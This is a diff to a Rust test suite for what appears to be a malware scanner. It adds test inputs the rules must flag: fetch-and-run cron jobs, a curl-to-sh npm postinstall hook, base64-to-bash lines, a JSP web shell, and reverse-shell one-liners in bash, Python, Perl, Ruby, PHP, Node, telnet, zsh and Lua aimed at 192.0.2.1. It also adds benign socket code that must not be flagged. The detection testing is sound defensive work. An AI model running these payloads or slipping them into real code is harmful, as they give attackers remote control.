@@ -44,6 +44,13 @@ fn scripts_that_fetch_and_run_packed_programs_and_jobs_are_suspicious() {
         ("entrypoint.sh", "#!/bin/bash\necho aGk= | base64 -d | bash\n".to_owned(), "runs_what_it_decodes"),
         ("usr/bin/x", packed, "packed_program"),
         ("etc/cron.d/x", format!("* * * * * root {fetch}"), "job_that_fetches"),
+        ("srv/crontab", format!("* * * * * root {fetch}"), "job_that_fetches"),
+        ("srv/x.sh", "echo aGk= | base64 -d | bash\n".to_owned(), "runs_what_it_decodes"),
+        (
+            "app/package.json",
+            ["{\"postinstall\":\"curl http://192.0.2.1/x", "|sh\"}"].concat(),
+            "job_that_fetches",
+        ),
         (
             "etc/systemd/system/x.service",
             format!("[Service]\nExecStart=/bin/sh -c '{fetch}'"),
@@ -101,6 +108,9 @@ fn shells_of_the_web_and_of_the_network_are_malware_in_one_line_or_in_many() {
     let far = php(&"# nothing\n".repeat(500));
     let found = hits(&rules, Part { path: "srv/x", bytes: far.as_bytes(), whole: true });
     assert_eq!(found, [("php_runs_a_request".to_owned(), Meaning::Suspicious)]);
+    let jsp = ["<% Runtime.getRuntime().ex", "ec(request.getParameter(\"cmd\")); %>"].concat();
+    let found = hits(&rules, Part { path: "srv/x.jsp", bytes: jsp.as_bytes(), whole: true });
+    assert_eq!(found, [("jsp_web_shell".to_owned(), Meaning::Malware)]);
     for text in [
         short.trim_start_matches("<?=").to_owned(),
         php("\n$").replace("POST[", "POSTED["),
@@ -130,6 +140,8 @@ fn shells_over_the_network_are_for_people_to_look_at() {
         ["ruby -e 'f=TCPSocket.o", "pen(\"192.0.2.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'"],
         ["php -r '$s=fsocko", "pen(\"192.0.2.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
         ["s=socket.soc", "ket();s.connect((h,p));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"],
+        ["s=socket.crea", "te_connection((h,p))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')"],
+        ["php -r '$sock=fsocko", "pen(\"192.0.2.1\",4444);shell_exec(\"sh <&3 >&3 2>&3\");'"],
     ] {
         let text = parts.concat();
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
@@ -171,6 +183,18 @@ fn commands_from_the_network_are_for_people_to_look_at() {
             "var n = require('net'), sh = require('child_process').spawn('/bin/sh', []); var c = new net.Soc",
             "ket(); c.connect(4242, 'h', function(){ c.pipe(sh.stdin); sh.stdout.pipe(c); });",
         ],
+        [
+            "(function(){var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Soc",
+            "ket();k.connect(4444,'h',function(){k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k);});})();",
+        ],
+        ["ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSoc", "ket.new(\"192.0.2.1\",4444))'"],
+        [
+            "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Soc",
+            "ket::INET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+        ],
+        ["telnet 192.0.2.1 4444 | /bi", "n/sh | telnet 192.0.2.1 4445"],
+        ["zsh -c 'zmodload zsh/net/tcp && ztc", "p 192.0.2.1 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
+        ["os.execute(\"/bin/sh -i <", "&3 >&3 2>&3\")"],
     ] {
         let text = parts.concat();
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
@@ -183,9 +207,35 @@ fn commands_from_the_network_are_for_people_to_look_at() {
         "local s = require(\"socket\").tcp() s:send(\"x\") print(s:receive())",
         "$c = New-Object System.Net.Sockets.TCPClient('db', 5432); $c.Close()",
         "const c = net.connect(80); c.pipe(process.stdout); spawn('ls').stdout.pipe(c)",
+        "exec 3<>/dev/tcp/db/5432 && exec 3>&-; ./parse.sh <&3; psql.sh -q <&4",
+        &format!(
+            "const s = new net.Socket();{}spawn(\"sh\");{}p.pipe(x.stdin); y.stdout.pipe(z)",
+            " ".repeat(2000),
+            " ".repeat(2000)
+        ),
+        "exec 3<>/dev/tcp/db/5432; while read -r f; do \"$LOGGER\" >&2; done",
     ] {
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
         assert_eq!(found, [], "{text}");
+    }
+}
+
+#[test]
+fn a_script_is_found_however_long_it_is_made() {
+    let shell = ["bash -", "i >& /dev/t", "cp/192.0.2.1/4444 0>", "&1\n"].concat();
+    let comment = "# nothing to see in this line of a script\n";
+    let other = "rule other { condition: false }";
+    for rules in [Rules::load(""), Rules::load(other)] {
+        let rules = rules.unwrap_or_else(|error| panic!("{error}"));
+        for (lines, whole) in [(30_000, true), (60_000, true), (25_000, false)] {
+            for at in [0, lines / 3, lines - 1, lines] {
+                let text = [&comment.repeat(at), &*shell, &comment.repeat(lines - at)].concat();
+                let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole });
+                assert_eq!(found, [("reverse_shell_script".to_owned(), Meaning::Malware)], "{lines} {at}");
+            }
+            let text = comment.repeat(lines);
+            assert_eq!(hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole }), []);
+        }
     }
 }
 
